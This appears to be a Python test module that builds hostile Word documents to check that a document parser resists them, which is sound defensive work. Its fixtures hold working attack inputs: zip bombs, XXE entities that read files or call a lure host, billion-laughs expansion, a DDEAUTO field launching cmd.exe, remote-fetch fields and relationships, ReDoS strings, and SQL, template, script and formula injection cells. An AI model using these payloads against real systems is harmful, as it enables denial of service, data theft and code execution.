"""Hostile Word documents."""

import io
import warnings
import zipfile

from tests.documents import cell, docx, field, para, row, table
from tests.hostile.kinds import BOMB, DAMAGED, HARMLESS, LOCKED, Hostile, Lure, fixed

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))


def body(inside: str, before: str = "") -> bytes:
    """Return a document with a text part that is written out by hand."""
    return docx(parts={"word/document.xml": f"<?xml version='1.0'?>{before}<w:document {_W}><w:body>{inside}</w:body></w:document>"})


def says(text: str, before: str) -> bytes:
    """Return a document of one paragraph, with a document type before it."""
    return body(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>", before)


def deep(times: int) -> bytes:
    """Return tables inside one another."""
    return body("<w:tbl><w:tr><w:tc>" * times + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * times)


def twice() -> bytes:
    """Return a package in which two programs see two documents."""
    out = io.BytesIO(docx("the first"))
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as package:
        warnings.simplefilter("ignore")
        package.writestr("word/document.xml", f"<w:document {_W}><w:body><w:p/></w:body></w:document>")
    return out.getvalue()


def linked(kind: str) -> Hostile:
    """Return a document with a relationship that leaves the package."""

    def build(lure: Lure) -> bytes:
        return docx("Chair: Jo", outside={kind: f"{lure.address}/{kind}"})

    return Hostile(f"external_{kind}.docx", "docx", f"a relationship of kind {kind} calls home", build, HARMLESS)


def locked() -> bytes:
    """Return what Word makes of a document with a password, as far as it matters (MS-OFFCRYPTO 2.3.4.4)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)


FILES = (
    Hostile(
        "bomb_part.docx",
        "docx",
        "one part unpacks to 100 MB",
        fixed(lambda: docx(parts={"word/document.xml": b" " * 100_000_000})),
        BOMB | DAMAGED,
    ),
    Hostile(
        "bomb_beside.docx",
        "docx",
        "five parts unpack to 50 MB each",
        fixed(lambda: docx("a", parts={f"customXml/item{at}.xml": b"<x>" + b" " * 50_000_000 + b"</x>" for at in range(5)})),
        BOMB,
    ),
    Hostile(
        "many_entries_40k.docx", "docx", "40,000 parts", fixed(lambda: docx("a", parts={f"word/x{at}": b"" for at in range(40_000)})), BOMB
    ),
    Hostile(
        "xxe_file.docx",
        "docx",
        "an entity that is a file",
        lambda lure: says("&e;", f'<!DOCTYPE d [<!ENTITY e SYSTEM "{lure.file}">]>'),
        DAMAGED,
    ),
    Hostile(
        "xxe_http.docx",
        "docx",
        "an entity that calls home",
        lambda lure: says("&e;", f'<!DOCTYPE d [<!ENTITY e SYSTEM "{lure.address}/e">]>'),
        DAMAGED,
    ),
    Hostile(
        "xxe_param.docx",
        "docx",
        "a parameter entity that calls home",
        lambda lure: says("a", f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{lure.address}/p.dtd"> %p;]>'),
        DAMAGED,
    ),
    Hostile(
        "dtd_http.docx",
        "docx",
        "a document type that lies elsewhere",
        lambda lure: says("a", f'<!DOCTYPE d SYSTEM "{lure.address}/d.dtd">'),
        DAMAGED,
    ),
    Hostile(
        "billion_laughs.docx",
        "docx",
        "entities that grow tenfold nine times",
        fixed(lambda: says("&l9;", f'<!DOCTYPE d [<!ENTITY l0 "ha">{_LAUGHS}]>')),
        DAMAGED,
    ),
    Hostile(
        "quadratic_blowup.docx",
        "docx",
        "one long entity, very often",
        fixed(lambda: says("&a;" * 50_000, f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>')),
        DAMAGED | BOMB,
    ),
    *map(linked, ("attachedTemplate", "image", "oleObject", "subDocument", "frame", "hyperlink")),
    Hostile(
        "dde_field.docx",
        "docx",
        "a field that starts a program",
        fixed(lambda: docx(para(field('DDEAUTO c:\\\\cmd.exe "/k calc"', "5 homes")))),
        HARMLESS,
    ),
    Hostile(
        "includetext.docx",
        "docx",
        "a field that fetches a file",
        lambda lure: docx(para(field(f'INCLUDETEXT "{lure.file}"', "5 homes"))),
        HARMLESS,
    ),
    Hostile("macro.docm", "docx", "macros beside the text", fixed(lambda: docx("a", parts={"word/vbaProject.bin": locked()})), HARMLESS),
    Hostile("nested_tables_60.docx", "docx", "tables in tables, as deep as may be", fixed(lambda: deep(60)), HARMLESS | DAMAGED),
    Hostile("nested_tables_3000.docx", "docx", "tables in tables", fixed(lambda: deep(3_000)), DAMAGED),
    Hostile(
        "gridspan_huge.docx",
        "docx",
        "a cell over 2^31 columns",
        fixed(lambda: docx(table(row(cell("a", span="2147483647"), "b")))),
        HARMLESS,
    ),
    Hostile(
        "gridspan_odd.docx",
        "docx",
        "a cell over minus one column, one over none, one over words",
        fixed(lambda: docx(table(row(cell("a", span="-1"), cell("b", span="0"), cell("c", span="many"), cell("d", span="9" * 5_000))))),
        HARMLESS,
    ),
    Hostile("row_wide.docx", "docx", "a row of 60,000 cells", fixed(lambda: docx(table(row(*("x",) * 60_000)))), HARMLESS | BOMB),
    Hostile(
        "list_deep.docx",
        "docx",
        "a list item at level two billion",
        fixed(lambda: docx(para("a", item=(2_000_000_000, 2_000_000_000)))),
        HARMLESS,
    ),
    Hostile(
        "style_cycle.docx",
        "docx",
        "styles that are based on one another",
        fixed(
            lambda: docx(
                para("a", style="A"),
                styles='<w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style>',
            )
        ),
        HARMLESS,
    ),
    Hostile("dup_part.docx", "docx", "two parts of one name", fixed(twice), DAMAGED),
    Hostile(
        "redos_cells.docx",
        "docx",
        "cells that patterns love to search",
        fixed(
            lambda: docx(
                *(
                    table(row("Email: ", character * 9_000 + "!"))
                    for character in ("a", "a.", "1", " ", "@", "(", "1/", "\t", "a@a.", "£1,")
                )
            )
        ),
        HARMLESS | BOMB,
    ),
    Hostile(
        "one_paragraph_2mb.docx",
        "docx",
        "a paragraph of two megabytes",
        fixed(lambda: docx(para(" ".join(str(number**5) for number in range(90_000))))),
        HARMLESS | BOMB,
    ),
    Hostile(
        "injection_cells.docx",
        "docx",
        "answers that spreadsheets, templates, pages and databases would run",
        fixed(
            lambda: docx(
                table(
                    *(row("Chair", said) for said in ("=1+1", "{{ 7*7 }}", "<script>x</script>", "';DROP TABLE record;--", "\u202etxt.exe"))
                )
            )
        ),
        HARMLESS,
    ),
    Hostile("encrypted.docx", "docx", "a password", fixed(locked), LOCKED | DAMAGED),
)
